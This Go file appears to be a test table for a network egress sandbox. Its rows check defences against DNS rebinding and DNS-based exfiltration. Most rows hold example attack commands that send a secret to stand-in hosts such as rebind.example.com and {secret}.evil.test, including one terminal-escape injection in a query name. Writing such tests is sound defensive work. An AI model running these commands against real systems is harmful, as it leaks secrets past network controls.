package egress

import "net/netip"

// bracketed is an address as rules and URLs have it.
func bracketed(address string) string {
	a := netip.MustParseAddr(address).Unmap()
	if a.Is6() {
		return "[" + a.String() + "]"
	}
	return a.String()
}

// resolutionRows are names whose addresses change or are mixed.
var resolutionRows = []row{
	{
		id: "E-4", tries: "a name that leads to the loopback at the second look-up", rules: []string{"rebind.example.com:80"},
		run:  []string{"sh", "-c", "curl -sS http://rebind.example.com/; curl -sS http://rebind.example.com/{secret}"},
		bare: "HTTP/1.1 http rebind.example.com HTTP/1.1 http rebind.example.com", boxed: "HTTP/1.1 http rebind.example.com exit 7|HTTP/1.1 http rebind.example.com exit 52|HTTP/1.1 http rebind.example.com exit 55|HTTP/1.1 http rebind.example.com exit 56",
		heard:   https("rebind.example.com", "good:80"),
		refused: []string{"refused tcp rebind.example.com:80 allow 127.0.0.1:80"},
	},
	{
		id: "E-4", tries: "the same, with the host's own network", rules: []string{"rebind-lan.example.com:80"},
		run:  []string{"sh", "-c", "curl -sS http://rebind-lan.example.com/; curl -sS http://rebind-lan.example.com/{secret}"},
		bare: "HTTP/1.1 http rebind-lan.example.com HTTP/1.1 http rebind-lan.example.com", boxed: "HTTP/1.1 http rebind-lan.example.com exit 7|HTTP/1.1 http rebind-lan.example.com exit 52|HTTP/1.1 http rebind-lan.example.com exit 55|HTTP/1.1 http rebind-lan.example.com exit 56",
		heard:   https("rebind-lan.example.com", "good:80"),
		refused: []string{"refused tcp rebind-lan.example.com:80 allow " + hostLAN + ":80"},
	},
	{
		id: "E-4", tries: "a name with forbidden addresses among others", rules: []string{"mixed.example.com:80"},
		run:   []string{"curl", "-sS", "http://mixed.example.com/"},
		boxed: "HTTP/1.1 http mixed.example.com", heard: https("mixed.example.com", "good:80"),
	},
	{
		id: "E-4", tries: "a name whose only public address does not answer", rules: []string{"tcp://deadmixed.example.com:7001"},
		run:  []string{"{probe}", "say", "tcp", "deadmixed.example.com:7001", "{secret}"},
		bare: "~s", boxed: reset, heard: []string{"dns deadmixed.example.com", "tcp 93.184.215.99:7001"},
		refused: []string{"failed tcp deadmixed.example.com:7001"},
	},
	{
		id: "E-4", tries: "a name with forbidden addresses only", rules: []string{"allbad.example.com:80"},
		run:  []string{"curl", "-sS", "http://allbad.example.com/{secret}"},
		bare: "HTTP/1.1 http allbad.example.com", boxed: cut, heard: []string{"dns allbad.example.com"},
		refused: []string{"refused tcp allbad.example.com:80 allow 127.0.0.1:80|refused tcp allbad.example.com:80 allow 10.20.30.40:80"},
	},
	{
		id: "use", tries: "an allowed name that does not exist", rules: []string{"missing.example.com:80"},
		run:  []string{"curl", "-sS", "http://missing.example.com/"},
		bare: "exit 6", boxed: cut, heard: []string{"dns missing.example.com"},
		refused: []string{"failed tcp missing.example.com:80"},
	},
}

// nameRows ask name servers, and use names to tell them something.
var nameRows = []row{
	{
		id: "E-6", tries: "a name that would write on a terminal", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "ask", "udp", "8.8.8.8:53", "A", "\x1b]0;{secret}\x07\r\n.evil.test"},
		bare: addressEvil, boxed: "NXDOMAIN|FORMERR",
	},
	{
		id: "E-6", tries: "an allowed name at the configured, and at hard-coded servers", rules: []string{"good.example.com:443"},
		run:   []string{"sh", "-c", "for s in $(sed -n 's/^nameserver //p' /etc/resolv.conf):53 8.8.8.8:53 1.1.1.1:53 [2001:4860:4860::8888]:53; do {probe} ask udp $s A good.example.com; {probe} ask tcp $s A good.example.com; done"},
		bare:  "~" + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood + " " + addressGood,
		boxed: "virtual virtual virtual virtual virtual virtual virtual virtual",
	},
	{
		id: "E-6", tries: "a secret as a name", rules: []string{"good.example.com:443"},
		run:  []string{"sh", "-c", "{probe} ask udp 8.8.8.8:53 A {secret}.evil.test; {probe} ask tcp 8.8.8.8:53 TXT {secret}.evil.test; getent ahosts {secret}.evil.test || echo none"},
		bare: "~" + addressEvil + " text " + addressEvil, boxed: "NXDOMAIN NXDOMAIN none",
		refused: []string{"refused dns {secret}.evil.test allow {secret}.evil.test:443"},
	},
	{
		id: "E-6", tries: "other types of an allowed name", rules: []string{"good.example.com:443"},
		run:   []string{"sh", "-c", "for t in AAAA TXT MX SRV NS ANY NULL HTTPS SVCB CNAME; do {probe} ask udp 8.8.8.8:53 $t good.example.com; done"},
		bare:  "NODATA text NODATA NODATA NODATA NODATA NODATA NODATA NODATA NODATA",
		boxed: "NODATA NODATA NODATA NODATA NODATA NODATA NODATA NODATA NODATA NODATA",
	},
	{
		id: "E-6", tries: "other types of other names", rules: []string{"good.example.com:443"},
		run:  []string{"sh", "-c", "for t in AAAA TXT MX HTTPS NULL; do {probe} ask udp 8.8.8.8:53 $t {secret}.evil.test; done"},
		bare: "NODATA text NODATA NODATA NODATA", boxed: "NXDOMAIN NXDOMAIN NXDOMAIN NXDOMAIN NXDOMAIN",
		refused: []string{"refused dns {secret}.evil.test allow {secret}.evil.test:443"},
	},
	{
		id: "E-6", tries: "labels below an allowed name", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "ask", "udp", "8.8.8.8:53", "A", "{secret}.good.example.com"},
		bare: "NXDOMAIN", boxed: "NXDOMAIN",
		refused: []string{"refused dns {secret}.good.example.com allow {secret}.good.example.com:443"},
	},
	{
		id: "E-6", tries: "a question that nobody connects after, below a suffix", rules: []string{"*.cdn.example.net:443"},
		run:  []string{"{probe}", "ask", "udp", "8.8.8.8:53", "A", "{secret}.cdn.example.net"},
		bare: addressCDN, boxed: "virtual",
	},
	{
		id: "E-6", tries: "a long secret below a suffix", rules: []string{"*.cdn.example.net:443"},
		run:  []string{"{probe}", "dial", "tcp", "{secret}-0123456789-0123456789-0123456789.cdn.example.net:443"},
		bare: "connected", boxed: "NXDOMAIN",
		refused: []string{"refused dns {secret}-0123456789-0123456789-0123456789.cdn.example.net"},
	},
	{
		id: "E-6", tries: "name servers by other ways", rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "dial", "tcp", "8.8.8.8:853", "1.1.1.1:443", "8.8.8.8:443"},
		bare: "connected connected connected", boxed: "ECONNREFUSED ECONNREFUSED ECONNREFUSED",
		refused: []string{"refused tcp 8.8.8.8:853 allow 8.8.8.8:853", "refused tcp 1.1.1.1:443 allow 1.1.1.1:443", "refused tcp 8.8.8.8:443 allow 8.8.8.8:443"},
	},
	{
		id: "E-6", tries: "something on port 53 that is no question", rules: []string{"good.example.com:443"},
		run:  []string{"sh", "-c", "{probe} say tcp " + addressEvil + ":53 {secret}; {probe} say udp " + addressEvil + ":53 {secret}"},
		bare: "~s", boxed: "~", // what matters is that nobody hears it
	},
	{
		id: "E-6", tries: "a burst of names below a suffix, which nobody is told", rules: []string{"*.cdn.example.net:443", "good.example.com:443"},
		run:  []string{"sh", "-c", "{probe} burst udp 8.8.8.8:53 1000 cdn.example.net >/dev/null; {probe} get https://good.example.com/"},
		bare: "HTTP/2.0 https good.example.com", boxed: "HTTP/2.0 https good.example.com", heard: https("good.example.com", "good:443"), slow: true,
		refused: []string{"*"},
	},
}
